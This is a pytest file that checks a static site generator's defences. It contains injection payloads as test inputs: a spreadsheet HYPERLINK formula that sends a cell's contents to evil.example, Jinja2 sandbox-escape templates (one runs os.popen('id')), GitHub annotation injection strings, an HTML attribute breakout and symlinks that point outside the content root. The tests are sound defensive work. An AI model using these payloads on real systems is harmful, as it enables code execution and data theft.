"""The other ways out of content: pull-request annotations, spreadsheet formulas, templates, symbolic links,
and values Material prints into HTML attributes."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import types
import weakref
from pathlib import Path

import jinja2
import pytest
import yaml
from conftest import REPO, relock
from hypothesis import given
from hypothesis import strategies as st

from generator import cli
from generator.commands.build import build
from generator.content.check import check
from generator.content.problems import Problem, render
from generator.content.theme import load_theme
from generator.errors import ThemeError
from generator.render.mkdocs_config import config
from generator.sandbox import Sandbox
from generator.site.charts.data import ChartSpec, Series, chart, chart_words
from generator.site.exports import edition_data
from generator.site.templating import environment, yaml_string

JOB = "initiatives/2022/03-good-jobs/job-fairs.md"


def test_github_annotations_escape_every_property() -> None:
    hostile = "a,b:c.md\n::error file=x.md,line=1::injected"
    line = Problem(hostile, 3, 4, "bad 100% ::x\nnext").github()
    assert "\n" not in line
    # The properties end at the first '::'; the file name cannot close them early or add a property.
    properties, message = line.removeprefix("::error ").split("::", 1)
    assert properties == "file=a%2Cb%3Ac.md%0A%3A%3Aerror file=x.md%2Cline=1%3A%3Ainjected,line=3,col=4"
    assert message == "bad 100%25 ::x%0Anext"
    assert render([Problem("ok.md", 1, 1, "m")], "github", 1).splitlines()[0] == "::error file=ok.md,line=1,col=1::m"


def test_csv_cells_cannot_start_a_formula_but_json_keeps_the_text(project: Path) -> None:
    page = project / JOB
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    lines = page.read_text(encoding="utf-8").split("\n")
    for i, line in enumerate(lines):
        key, _, value = line.partition(": ")
        new = {"  - label": formula, "summary": "+" + value, "source": "@" + value}.get(key)
        lines[i] = f"{key}: {json.dumps(new)}" if new else line
    page.write_text("\n".join(lines), encoding="utf-8")
    checked = check(project)
    assert checked.project is not None, [p.text() for p in checked.problems]
    files = edition_data(checked.project, checked.project.edition(2022))
    initiative = next(r for r in csv.DictReader(io.StringIO(files["initiatives.csv"])) if r["id"] == "job-fairs")
    assert initiative["summary"].startswith("'+Fairs") and initiative["source"].startswith("'@Exampleshire")
    metric = next(r for r in csv.DictReader(io.StringIO(files["metrics.csv"])) if r["initiative_id"] == "job-fairs")
    assert metric["label"] == "'" + formula and metric["value"] == "5"
    record = next(r for r in json.loads(files["initiatives.json"])["initiatives"] if r["id"] == "job-fairs")
    assert record["metrics"][0]["label"] == formula and record["summary"].startswith("+Fairs")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_chart_csv_cells_cannot_start_a_formula(start: str) -> None:
    words = chart_words(yaml.safe_load((REPO / "theme" / "labels.yml").read_text(encoding="utf-8")), "bars")
    spec = ChartSpec("s", "T", "bars", (f"{start}1+1", "Plain"), (Series("n", (1.0, 2.0)),), "Count", "Place", words)
    drawn = chart(spec, "<svg/>", "alt", (f"{start}Place", "Count"))
    rows = list(csv.reader(io.StringIO(drawn.csv, newline="")))
    cell = start.replace("\r", "\n")  # a lone CR would end the CSV row
    assert rows == [[f"'{cell}Place", "Count"], [f"'{cell}1+1", "1"], ["Plain", "2"]]
    assert drawn.rows[0][0] == f"{start}1+1"  # the table on the page shows the text as written


def _theme(project: Path, page_template: str) -> None:
    shutil.copytree(REPO / "theme", project / "theme")
    (project / "theme/templates/page.md.j2").write_text(page_template, encoding="utf-8")


@pytest.mark.parametrize(
    "hostile",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ '{0.__class__.__mro__}'.format(page) }}",
        "{{ project.__class__.__init__.__globals__ }}",
    ],
)
def test_a_theme_template_cannot_reach_python_internals(project: Path, hostile: str) -> None:
    _theme(project, f"---\ntitle: x\n---\n\n{hostile}\n")
    with pytest.raises(ThemeError) as caught:
        build(project)
    [problem] = caught.value.problems
    assert (problem.path, problem.line) == ("theme/templates/page.md.j2", 5)
    assert "unsafe" in problem.message and "<class" not in problem.message
    assert not (project / "site").exists()


class _Lookalike:
    """Harmless attributes with the names the sandbox refuses on Python's internal types."""

    gi_frame = "a field"
    mro = "another field"


def test_the_sandbox_remembers_a_verdict_only_for_the_type_it_was_given() -> None:
    env = environment(load_theme(REPO))
    for name in ("gi_frame", "mro"):
        page = env.from_string(f"{{{{ x.{name} }}}}")
        assert page.render(x=_Lookalike()) in ("a field", "another field")
        generator_or_class = (n for n in ()) if name == "gi_frame" else str
        with pytest.raises(jinja2.exceptions.SecurityError):
            page.render(x=generator_or_class)
        assert page.render(x=_Lookalike()) in ("a field", "another field")


def test_a_proxy_is_judged_by_what_it_stands_for_every_time() -> None:
    # weakref.proxy reports the class of its referent (isinstance believes it) and reaches its internals.
    env = environment(load_theme(REPO))
    frames, lookalike = (n for n in ()), _Lookalike()
    page = env.from_string("{{ x.gi_frame }}")
    assert page.render(x=weakref.proxy(lookalike)) == "a field"
    with pytest.raises(jinja2.exceptions.SecurityError):
        page.render(x=weakref.proxy(frames))


class _Equal(type):
    """A metaclass whose classes equal every type, the generator type included."""

    def __hash__(cls) -> int:
        return hash(types.GeneratorType)

    def __eq__(cls, other: object) -> bool:
        return True


class _EqualToEveryType(metaclass=_Equal):
    gi_frame = "a field"


def test_a_type_equal_to_another_does_not_share_its_verdict() -> None:
    env = environment(load_theme(REPO))
    page = env.from_string("{{ x.gi_frame }}")
    assert page.render(x=_EqualToEveryType()) == "a field"
    with pytest.raises(jinja2.exceptions.SecurityError):
        page.render(x=(n for n in ()))


def test_the_sandbox_remembers_a_bounded_number_of_short_names() -> None:
    env = environment(load_theme(REPO))
    lookalike, frames = _Lookalike(), (n for n in ())
    for n in range(100):
        assert env.is_safe_attribute(lookalike, "x" * 65 + str(n), None)
    assert env._verdicts == {}  # type: ignore[attr-defined]
    for n in range(2 * env.REMEMBERED):  # type: ignore[attr-defined]
        assert env.is_safe_attribute(lookalike, f"name{n}", None)
    assert len(env._verdicts) == env.REMEMBERED  # type: ignore[attr-defined]
    assert not env.is_safe_attribute(frames, "gi_frame", None) and not env.is_safe_attribute(lookalike, "_x", None)
    assert env.is_safe_attribute(lookalike, "gi_frame", None)


def test_a_template_error_reaches_the_user_without_a_traceback(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _theme(project, "{{ ''.__class__ }}\n")
    assert cli.main(["build", "--root", str(project)]) == 1
    out = capsys.readouterr()
    assert "theme/templates/page.md.j2:1:1: error: the template failed: access to attribute '__class__'" in out.out
    assert "Traceback" not in out.out + out.err


def _outside(tmp_path: Path) -> Path:
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "secret.md").write_text("---\ntitle: Secret\n---\nNot part of the content.\n", encoding="utf-8")
    return secret


def test_a_symlinked_file_out_of_the_root_is_an_error(project: Path, tmp_path: Path) -> None:
    os.symlink(_outside(tmp_path) / "secret.md", project / "content/pages/secret.md")
    errors = [p.text() for p in check(project).problems if p.severity == "error"]
    assert errors == [
        "content/pages/secret.md:1:1: error: symbolic link leads outside the content folder (or nowhere); "
        "it is not followed (copy the file into the content folder instead of linking to it)"
    ]


def test_a_symlinked_folder_out_of_the_root_is_one_error(project: Path, tmp_path: Path) -> None:
    outside = _outside(tmp_path)
    shutil.copytree(project / "initiatives/2022/03-good-jobs", outside / "jobs")
    shutil.rmtree(project / "initiatives/2022/03-good-jobs")
    os.symlink(outside / "jobs", project / "initiatives/2022/03-good-jobs")
    errors = [(p.path, p.line, p.col) for p in check(project).problems if p.severity == "error"]
    assert errors == [("initiatives/2022/03-good-jobs", 1, 1)]


def test_links_inside_the_root_and_loops(project: Path) -> None:
    os.symlink("about.md", project / "content/pages/about-us.md")  # inside: read like any file
    os.symlink("loop.md", project / "content/pages/loop.md")
    errors = [(p.path, p.line) for p in check(relock(project)).problems if p.severity == "error"]
    assert errors == [("content/pages/loop.md", 1)]


def test_a_theme_file_linked_out_of_the_root_is_an_error(project: Path, tmp_path: Path) -> None:
    _theme(project, "---\ntitle: x\n---\n")
    os.symlink(_outside(tmp_path) / "secret.md", project / "theme/assets/secret.css")
    with pytest.raises(ThemeError) as caught:
        load_theme(project)
    assert [(p.path, p.line, p.col) for p in caught.value.problems] == [("theme/assets/secret.css", 1, 1)]


def test_the_description_fallback_cannot_leave_its_attribute(project: Path) -> None:
    site = project / "content/site.yml"
    site.write_text("\n".join(ln for ln in site.read_text().splitlines() if not ln.startswith("description")))
    edition = project / "content/2022/edition.yml"
    lines = edition.read_text().split("\n")
    summary = 'Fairs "for all" & fewer than <5 left" content="x'
    edition.write_text("\n".join(f"summary: {json.dumps(summary)}" if ln.startswith("summary") else ln for ln in lines))
    checked = check(relock(project))
    assert checked.project is not None, [p.text() for p in checked.problems]
    cfg = config(
        checked.project, checked.project.edition(2022), "docs", "site", "overrides", load_theme(project).labels
    )
    assert cfg["site_description"] == "Fairs &quot;for all&quot; &amp; fewer than &lt;5 left&quot; content=&quot;x"


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_a_title_is_one_yaml_string_whatever_it_holds(text: str) -> None:
    front = f"---\ntitle: {yaml_string(text)}\n---\n"
    assert yaml.safe_load(front.split("---\n")[1]) == {"title": text}
    assert front.count("\n") == 3  # no line break of its own: nothing can end the front matter early


class _Holder:
    def method(self) -> str:
        return "ran"


def test_a_template_calls_only_what_the_allowlist_names() -> None:
    env = Sandbox()
    allowed = (
        "{% macro m(x) %}[{{ x }}]{% endmacro %}{{ m(1) }} {{ '{}-{}'.format(1, 'a') }} {{ 'abc'.upper() }} "
        "{% for x in [1, 2] %}{{ loop.cycle('o', 'e') }}{% endfor %} {{ {'a': 1}.items() | list }} "
        "{{ range(2) | list }} {% set ns = namespace(a=1) %}{{ ns.a }} {{ dict(b=2) }}"
    )
    assert env.from_string(allowed).render() == "[1] 1-a ABC oe [('a', 1)] [0, 1] 1 {'b': 2}"
    for refused in (
        "{{ h.method() }}",
        "{{ (h.method,)[0]() }}",
        "{{ [h] | map(attribute='method') | first }}{{ ([h] | map(attribute='method') | first)() }}",
    ):
        with pytest.raises(jinja2.exceptions.SecurityError, match="a template may not call"):
            env.from_string(refused).render(h=_Holder())
